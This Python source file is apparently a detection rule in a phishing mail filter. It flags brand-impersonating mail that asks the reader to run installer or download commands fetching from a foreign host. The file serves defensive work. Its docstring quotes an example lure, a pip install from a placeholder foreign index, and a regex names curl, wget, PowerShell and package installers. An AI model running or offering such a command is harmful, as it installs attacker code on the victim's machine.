"""
The mail asks the reader to run a command that installs from a foreign place.

Why it matters:
    A command needs no login page: it takes the machine at once.

Fires on:
    `pip install --index-url https://packages.example/simple fix`, where the sender
    presents itself as the brand.

Stays silent on:
    Mirrors the pack names, the site's own domains, mail without a claim.

Known evasions:
    A package of the attacker on the genuine index; the lure remains.
"""

import re
from collections.abc import Iterator

from phish_milter.detection.facts import HOME, BrandFacts, Facts
from phish_milter.findings import Finding, Role, Symbol
from phish_milter.links.model import Link
from phish_milter.links.url import host_of

FOREIGN_COMMAND = Symbol(
    name="FOREIGN_COMMAND",
    role=Role.CONTRADICTION,
    summary="Mail asks to run a command that loads from a foreign host",
    score=4.0,
    check=__name__,
)
SYMBOLS = (FOREIGN_COMMAND,)

# An installer, or a download piped into a shell, and the host of the URL on the same line:
# behind "user:password@", before ":port" (RFC 3986 section 3.2).
_COMMAND = re.compile(
    r"(?:\b(?:pipx?3?|uv|conda|npm|yarn|pnpm|gem|cargo|python3?|curl|wget|iwr|irm|"
    r"powershell|invoke-webrequest)\b)[^\n]{0,200}?\bhttps?://"
    r"(?:[^\s/?#\\\"'<>]{0,255}@)?(\[[0-9a-f:.]{2,45}\]|[\w.-]{1,255})",
    re.IGNORECASE,
)
# A mail that needs more commands than this is a log.
_MAX_COMMANDS = 20


def check(facts: Facts) -> Iterator[Finding]:
    """Yield a contradiction per claimed brand whose mail gives such a command."""
    claimed = list(facts.claimed())
    if not claimed:
        return
    hosts = _command_hosts(facts)
    for about in claimed:
        for link in _foreign(about, hosts):
            evidence = f"command loads from {link.host}"
            yield Finding(FOREIGN_COMMAND, evidence, about.brand.id)


def _command_hosts(facts: Facts) -> set[str]:
    found: set[str] = set()
    for document in facts.message.documents:
        if not document.nested:
            for number, match in enumerate(_COMMAND.finditer(document.visible)):
                if number >= _MAX_COMMANDS:
                    break
                found.add(host_of(match[1]))
    return found


def _foreign(about: BrandFacts, hosts: set[str]) -> Iterator[Link]:
    for judged in about.links:
        if judged.link.host in hosts and judged.relation not in HOME:
            yield judged.link
